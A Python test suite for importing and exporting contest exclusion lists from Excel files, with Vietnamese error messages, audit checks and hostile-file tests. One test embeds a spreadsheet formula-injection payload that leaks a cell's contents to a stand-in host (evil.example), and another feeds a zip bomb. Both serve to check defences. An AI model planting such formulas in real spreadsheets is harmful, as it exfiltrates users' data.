"""Adding people from an .xlsx in the participant template's columns: all-or-nothing with
row errors, rows that need nothing skipped and reported, hostile files and cells (zip
bombs, formulas never evaluated, a formula-safe export, E1), and the template."""

from __future__ import annotations

import io

import openpyxl
import pytest
from sqlalchemy import func, select

from contest.models import AuditEntry, Exclusion, Role
from contest.services import exclusion_import, exclusions
from contest.services.errors import ImportFailed
from question_bank.safety import UnreadableFile
from tests.conftest import NOW
from tests.contest.exclusions.conftest import HEADER, row_of, xlsx
from tests.contest.services.test_exports import assert_cells_safe
from tests.question_bank.qb_helpers import xlsx_bomb


def count(db) -> int:
    return db.session.scalar(select(func.count(Exclusion.id)))


def errors_of(data, contest, round_=None, reason="Ban Tổ chức"):
    with pytest.raises(ImportFailed) as info:
        exclusion_import.import_exclusions(
            data, contest, round_=round_, reason=reason, actor=None, now=NOW
        )
    return [(e.row, e.column, e.message) for e in info.value.errors]


def test_a_participant_list_adds_everyone_with_row_or_default_reasons(db, make_user, make_round):
    organiser = make_user(role=Role.organiser)
    a, b, c = make_user(), make_user(), make_user()
    r = make_round()
    data = xlsx(
        [
            row_of(a, "Người ra đề"),
            row_of(b, phone=False),  # by CCCD only, the file's reason
            row_of(c, cccd=False),  # by phone only
        ]
    )
    outcome = exclusion_import.import_exclusions(
        data, r.contest, round_=r, reason="Ban Tổ chức", actor=organiser, now=NOW
    )
    db.session.commit()
    assert [(row, u.id) for row, u in outcome.added] == [(2, a.id), (3, b.id), (4, c.id)]
    reasons = dict(db.session.execute(select(Exclusion.user_id, Exclusion.reason)).all())
    assert reasons == {a.id: "Người ra đề", b.id: "Ban Tổ chức", c.id: "Ban Tổ chức"}
    adds = db.session.scalars(select(AuditEntry).where(AuditEntry.action == "exclusion.add"))
    assert {(e.details["user_id"], e.details["row"], e.actor_id) for e in adds} == {
        (a.id, 2, organiser.id),
        (b.id, 3, organiser.id),
        (c.id, 4, organiser.id),
    }
    summary = db.session.scalar(select(AuditEntry).where(AuditEntry.action == "exclusion.import"))
    assert summary.details == {"rows": 3, "already": 0, "staff": 0, "repeated": 0}


def test_bad_rows_are_all_reported_and_nobody_is_added(db, make_user, make_round):
    good, other = make_user(full_name="Lê Văn Tốt"), make_user()
    r = make_round()
    data = xlsx(
        [
            row_of(good),
            ["Ai Đó", "", "", "001203999999", "", "", "", "", "", ""],  # nobody has it
            ["Ai Khác", "", "", "", "0987000111", "", "", "", "", ""],
            ["Sai Số", "", "", "", "12345", "", "", "", "", ""],
            ["Không Số", "", "", "", "", "", "", "", "", ""],
            row_of(good, name="Người Khác Hẳn"),
            [good.full_name, "", "", good.id_number, other.phone, "", "", "", "", ""],
        ]
    )
    errors = errors_of(data, r.contest, r)
    assert errors == [
        (3, "Số CCCD", "Chưa có ai đăng ký với số CCCD này."),
        (4, "Số điện thoại", "Chưa có ai đăng ký với số điện thoại này."),
        (5, "Số điện thoại", "Số điện thoại chưa đúng: cần số di động 10 chữ số."),
        (6, "Số điện thoại", "Dòng này chưa có số CCCD hoặc số điện thoại."),
        (
            7,
            "Họ và tên",
            "Họ tên không khớp với tài khoản có số này («Lê Văn Tốt»). Vui lòng kiểm tra lại.",
        ),
        (
            8,
            "Số điện thoại",
            "Số CCCD và số điện thoại ở dòng này thuộc hai tài khoản khác nhau. "
            "Vui lòng kiểm tra lại.",
        ),
    ]
    assert count(db) == 0


def test_names_match_ignoring_case_and_diacritics(db, make_user, make_round):
    user = make_user(full_name="Nguyễn Thị Ánh")
    r = make_round()
    data = xlsx([row_of(user, name="NGUYEN THI ANH")])
    outcome = exclusion_import.import_exclusions(
        data, r.contest, round_=r, reason="BTC", actor=None, now=NOW
    )
    assert len(outcome.added) == 1


def test_a_reason_is_needed_for_every_row(db, make_user, make_round):
    a, b = make_user(), make_user()
    r = make_round()
    data = xlsx([row_of(a, "Người ra đề"), row_of(b)])
    assert errors_of(data, r.contest, r, reason="") == [
        (3, "Lý do", "Vui lòng ghi lý do không xét giải, ví dụ: Thành viên Ban Tổ chức.")
    ]
    assert count(db) == 0


def test_rows_that_need_nothing_are_skipped_and_reported(db, make_user, make_round):
    listed, fresh, judge = make_user(), make_user(), make_user(role=Role.judge)
    r = make_round()
    exclusions.add_exclusion(r.contest, listed, "BTC", round_=r, actor=None, now=NOW)
    data = xlsx([row_of(listed), row_of(judge), row_of(fresh), row_of(fresh, phone=False)])
    outcome = exclusion_import.import_exclusions(
        data, r.contest, round_=r, reason="BTC", actor=None, now=NOW
    )
    assert [u.id for _, u in outcome.added] == [fresh.id]
    assert (outcome.already, outcome.staff, outcome.repeated) == ([2], [3], [5])
    assert count(db) == 2
    # The same file again adds nobody and duplicates nothing.
    again = exclusion_import.import_exclusions(
        data, r.contest, round_=r, reason="BTC", actor=None, now=NOW
    )
    assert again.added == [] and again.already == [2, 4, 5] and count(db) == 2


def test_a_file_without_a_number_column_or_rows_is_refused(db, make_round):
    r = make_round()
    errors = errors_of(xlsx([["Ai Đó", "BTC"]], header=["Họ và tên", "Lý do"]), r.contest, r)
    assert errors[0][0] == 1 and "Số CCCD" in errors[0][2]
    errors = errors_of(xlsx([]), r.contest, r)
    assert errors[0][0] == 2 and "chưa có ai" in errors[0][2]


def test_excel_numbers_lose_no_leading_zero(db, make_user, make_round):
    user = make_user(phone="0912000111")
    r = make_round()
    cells = row_of(user, "BTC")
    cells[3], cells[4] = int(user.id_number), 912000111  # number cells, as Excel keeps them
    outcome = exclusion_import.import_exclusions(
        xlsx([cells]), r.contest, round_=r, actor=None, now=NOW
    )
    assert [u.id for _, u in outcome.added] == [user.id]


def test_a_zip_bomb_or_a_broken_file_is_refused_before_it_is_opened(db, make_round):
    r = make_round()
    with pytest.raises(UnreadableFile) as info:
        exclusion_import.import_exclusions(
            xlsx_bomb(200), r.contest, round_=r, reason="BTC", actor=None, now=NOW
        )
    assert "giải nén quá lớn" in info.value.message
    with pytest.raises(UnreadableFile):
        exclusion_import.import_exclusions(
            b"PK\x03\x04 broken", r.contest, round_=r, reason="BTC", actor=None, now=NOW
        )
    assert count(db) == 0


def test_formula_cells_are_never_evaluated_nor_echoed_as_formulas(db, make_user, make_round):
    user = make_user()
    r = make_round()
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
    text_cell = row_of(user, hostile)  # a text cell that looks like a formula
    exclusion_import.import_exclusions(xlsx([text_cell]), r.contest, round_=r, actor=None, now=NOW)
    (row,) = db.session.scalars(select(Exclusion))
    assert row.reason == hostile  # kept as the text it was, never run
    data = exclusion_import.export_bytes(r.contest, r, title="Danh sách", now=NOW, actor=None)
    sheets = assert_cells_safe(data)
    values = [c.value for line in sheets["Không xét giải"].iter_rows() for c in line]
    assert "'" + hostile in values and user.phone in values and user.id_number in values
    # A real formula cell (no cached value) reads as empty: the row then lacks a number.
    formula_phone = row_of(make_user(), "BTC", cccd=False)
    formula_phone[4] = '=HYPERLINK("http://evil.example","0912345678")'
    errors = errors_of(xlsx([formula_phone], formulas=True), r.contest, r)
    assert errors == [(2, "Số điện thoại", "Dòng này chưa có số CCCD hoặc số điện thoại.")]


def test_the_export_is_audited(db, make_user, make_round):
    organiser = make_user(role=Role.organiser)
    r = make_round()
    exclusions.add_exclusion(r.contest, make_user(), "BTC", round_=r, actor=organiser, now=NOW)
    exclusion_import.export_bytes(r.contest, r, title="Danh sách", now=NOW, actor=organiser)
    entry = db.session.scalar(select(AuditEntry).where(AuditEntry.action == "exclusion.export"))
    assert (entry.actor_id, entry.object_type, entry.details) == (
        organiser.id,
        "round",
        {"rows": 1},
    )


def test_the_template_has_the_participant_columns_and_a_reason(db):
    book = openpyxl.load_workbook(io.BytesIO(exclusion_import.template_bytes()))
    header = [c.value for c in next(book.active.iter_rows(max_row=1))]
    assert header == ["Họ và tên", "Số CCCD", "Số điện thoại", "Đơn vị", "Lý do"]
    assert set(header) - {"Lý do"} <= set(HEADER)
